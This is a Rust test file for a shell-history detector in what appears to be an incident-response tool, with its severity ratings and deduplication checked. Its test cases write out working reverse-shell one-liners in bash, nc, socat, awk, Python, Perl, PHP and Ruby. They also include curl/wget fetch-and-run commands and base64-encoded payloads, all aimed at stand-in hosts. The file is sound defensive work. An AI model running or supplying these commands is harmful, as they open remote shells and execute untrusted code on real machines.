use super::*;
use crate::heuristics::testing::command;

const BOB: &str = "/home/bob/.bash_history";

fn history(cmds: &[&str]) -> Vec<Event> {
    cmds.iter()
        .enumerate()
        .map(|(i, c)| command(BOB, i as u64 + 1, c))
        .collect()
}

/// (detector, severity) of every alarm over these commands.
fn found(cmds: &[&str]) -> Vec<(String, Severity)> {
    ShellHistory
        .detect(&history(cmds))
        .into_iter()
        .map(|a| (a.detector, a.severity))
        .collect()
}

fn one(cmd: &str) -> Option<(String, Severity)> {
    let all = found(&[cmd]);
    assert!(all.len() <= 1, "{cmd}: {all:?}");
    all.into_iter().next()
}

#[test]
fn download_piped_into_a_shell() {
    for (cmd, severity) in [
        ("curl -fsSL http://203.0.113.9/x.sh | sh", Severity::High),
        ("wget -qO- http://evil.example/p | bash", Severity::High),
        ("curl -k https://evil.example/p | sh", Severity::High),
        (
            "curl https://198.51.100.4:8443/p | sudo -E bash -s -- -y",
            Severity::High,
        ),
        ("bash <(curl -s http://evil.example/y)", Severity::High),
        ("curl 203.0.113.9/x|sh", Severity::High),
        (
            "wget -O- https://get.example.com/install | sudo bash",
            Severity::Medium,
        ),
        (
            "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
            Severity::Medium,
        ),
        (
            r#"sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)""#,
            Severity::Medium,
        ),
    ] {
        assert_eq!(
            one(cmd),
            Some(("download_pipe_shell".into(), severity)),
            "{cmd}"
        );
    }
}

#[test]
fn reverse_shells() {
    for cmd in [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "exec 5<>/dev/tcp/attacker.example/80;cat <&5 | while read line; do $line 2>&5 >&5; done",
        "nc -e /bin/sh 10.0.0.1 4444",
        "nc.traditional 10.0.0.1 4444 -e /bin/bash",
        "ncat 10.0.0.1 4444 --sh-exec 'bash -i'",
        "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
        "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
        "nc 10.0.0.1 4444 | /bin/sh | nc 10.0.0.1 4445",
        r#"awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null"#,
    ] {
        assert_eq!(
            one(cmd),
            Some(("reverse_shell".into(), Severity::High)),
            "{cmd}"
        );
    }
}

#[test]
fn scripted_reverse_shells_outrank_the_tty_upgrade_they_contain() {
    for cmd in [
        r#"python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);import pty; pty.spawn("/bin/bash")'"#,
        r#"perl -e 'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'"#,
        r#"php -r '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");'"#,
        r#"ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'"#,
    ] {
        assert_eq!(
            one(cmd),
            Some(("script_reverse_shell".into(), Severity::High)),
            "{cmd}"
        );
    }
    let upgrade = r#"python -c 'import pty; pty.spawn("/bin/bash")'"#;
    assert_eq!(one(upgrade), Some(("tty_upgrade".into(), Severity::Medium)));
}

#[test]
fn encoded_payloads_run_by_a_shell() {
    for cmd in [
        "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE= | base64 -d | bash",
        "echo cHduZWQ= | base64 --decode | sudo sh",
        r#"bash -c "$(echo aWQ= | base64 -d)""#,
        r#"python3 -c "exec(__import__('base64').b64decode('cHJpbnQoMSk='))""#,
    ] {
        assert_eq!(
            one(cmd),
            Some(("encoded_payload_shell".into(), Severity::High)),
            "{cmd}"
        );
    }
}

#[test]
fn everyday_commands_raise_nothing() {
    for cmd in [
        "curl https://example.com/x -o file.tar.gz",
        "curl -s https://api.example.com/v1/items | python -m json.tool",
        "curl -sL https://example.com/file | shasum -a 256",
        "wget https://example.com/file.tar.gz && tar xzf file.tar.gz",
        "nc -zv 10.0.0.1 22",
        "echo QUIT | nc mail.example.com 25 | head -1",
        "nc -l 8080 > upload.bin",
        "ncat -l 8080",
        "echo aGVsbG8= | base64 -d",
        "bash deploy.sh",
        "python3 -m http.server 8000",
        "sudo apt install netcat-openbsd socat",
        "man socat",
        "ssh admin@10.0.0.1",
        "mkfifo /tmp/pipe",
    ] {
        assert_eq!(found(&[cmd]), [], "{cmd}");
    }
}

#[test]
fn the_same_command_twice_is_one_alarm_with_both_references() {
    let events = history(&[
        "ls",
        "nc -e /bin/sh 10.0.0.1 4444",
        "id",
        "nc -e /bin/sh 10.0.0.1 4444",
    ]);
    let alarms = ShellHistory.detect(&events);
    assert_eq!(alarms.len(), 1);
    let a = &alarms[0];
    assert_eq!(a.event_refs, [1, 3]);
    assert_eq!(a.title, "Reverse shell by bob: nc -e /bin/sh 10.0.0.1 4444");
    assert!(
        a.description
            .contains("/home/bob/.bash_history line 2, time unknown"),
        "{}",
        a.description
    );
    assert!(a.description.contains("Seen 2 times."));
    assert_eq!(
        a.mitre,
        vec![
            mitre("execution", "T1059.004"),
            mitre("command-and-control", "T1095")
        ]
    );
}

#[test]
fn download_then_execute_in_one_command_or_over_several() {
    let alarms = ShellHistory.detect(&history(&[
        "curl -o /tmp/x http://h.example/x && chmod +x /tmp/x && /tmp/x",
    ]));
    assert_eq!(alarms.len(), 1);
    assert_eq!(
        (alarms[0].detector.as_str(), alarms[0].severity),
        ("download_exec", Severity::High)
    );
    assert_eq!(alarms[0].event_refs, [0]);
    assert_eq!(
        alarms[0].title,
        "Downloaded file executed: /tmp/x from http://h.example/x"
    );

    let events = history(&[
        "cd /tmp",
        "wget https://h.example/x.sh",
        "ls -la",
        "chmod +x x.sh",
        "./x.sh &",
    ]);
    let alarms = ShellHistory.detect(&events);
    assert_eq!(alarms.len(), 1);
    assert_eq!(
        (alarms[0].severity, alarms[0].event_refs.clone()),
        (Severity::High, vec![1, 3, 4])
    );
    assert!(alarms[0].title.contains("/tmp/x.sh"));

    let cases: &[(&[&str], Severity)] = &[
        (
            &[
                "curl -LO https://dl.example.com/tool",
                "chmod +x tool",
                "./tool --version",
            ],
            Severity::Low,
        ),
        (
            &[
                "wget http://203.0.113.9/a.py -O /home/bob/a.py",
                "python3 /home/bob/a.py",
            ],
            Severity::High,
        ),
        (
            &["curl -s https://h.example/a > /dev/shm/.a; chmod 755 /dev/shm/.a; /dev/shm/.a"],
            Severity::High,
        ),
        (
            &[
                "wget -O /tmp/x https://h.example/x",
                "sudo -u root nohup /tmp/x",
            ],
            Severity::High,
        ),
        (
            &["wget -P /var/tmp https://h.example/y", "bash /var/tmp/y"],
            Severity::High,
        ),
        (
            &["curl -sSLo ~/.cache/.u https://h.example/u", "~/.cache/.u"],
            Severity::High,
        ),
    ];
    for (cmds, severity) in cases {
        assert_eq!(
            found(cmds),
            [("download_exec".to_string(), *severity)],
            "{cmds:?}"
        );
    }
}

#[test]
fn downloads_that_are_not_run_raise_nothing() {
    let many_later: Vec<String> = std::iter::once("wget -O /tmp/x https://h.example/x".to_string())
        .chain((0..25).map(|i| format!("echo {i}")))
        .chain(["/tmp/x".to_string()])
        .collect();
    let many_later: Vec<&str> = many_later.iter().map(String::as_str).collect();
    for cmds in [
        &["wget https://h.example/x.tar.gz", "tar xzf x.tar.gz"][..],
        &["wget https://h.example/ls", "ls"],
        &["wget -qO- https://h.example/x > /dev/null", "./x"],
        &["curl https://h.example/x.sh | tee out", "cat out"],
        &many_later,
    ] {
        assert_eq!(found(cmds), [], "{cmds:?}");
    }
    // A download in one user's history and a run in another's are not linked.
    let events = vec![
        command(BOB, 1, "wget -O /tmp/x https://h.example/x"),
        command("/root/.bash_history", 1, "/tmp/x"),
    ];
    assert!(ShellHistory.detect(&events).is_empty());
}

#[test]
fn non_commands_are_ignored() {
    let mut e = command(BOB, 1, "nc -e /bin/sh 10.0.0.1 4444");
    e.action = riposte_model::Action::FileCreate;
    let mut no_cmd = command(BOB, 2, "x");
    no_cmd.attributes.remove("cmd");
    assert!(ShellHistory.detect(&[e, no_cmd]).is_empty());
}

#[test]
fn scheduled_entries_are_read_too() {
    use crate::heuristics::testing::{cron_job, unit};
    let events = vec![
        cron_job(2, "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'"),
        unit(
            "net.service",
            "/bin/sh -c 'curl -s http://203.0.113.9/a | sh'",
        ),
        cron_job(3, "nc -zv 10.0.0.1 22 | logger"),
    ];
    let got: Vec<_> = ShellHistory
        .detect(&events)
        .into_iter()
        .map(|a| (a.detector, a.severity, a.event_refs))
        .collect();
    assert_eq!(
        got,
        vec![
            ("reverse_shell".to_string(), Severity::High, vec![0]),
            ("download_pipe_shell".to_string(), Severity::High, vec![1]),
        ]
    );
}
